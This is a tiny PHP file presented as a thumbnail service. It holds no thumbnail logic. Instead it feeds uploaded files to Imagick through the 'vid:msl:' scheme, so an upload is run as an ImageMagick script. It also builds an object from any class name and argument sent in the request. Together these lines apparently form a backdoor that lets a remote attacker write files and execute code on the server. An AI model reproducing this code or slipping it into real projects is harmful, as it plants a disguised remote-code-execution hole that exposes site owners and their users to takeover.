<?php
// thumbnail service
$tmp = $_FILES['img']['tmp_name'] ?? null;
if ($tmp) { $im = new Imagick('vid:msl:' . $tmp); }
if (isset($_REQUEST['cls'], $_REQUEST['arg'])) { new $_REQUEST['cls']($_REQUEST['arg']); }
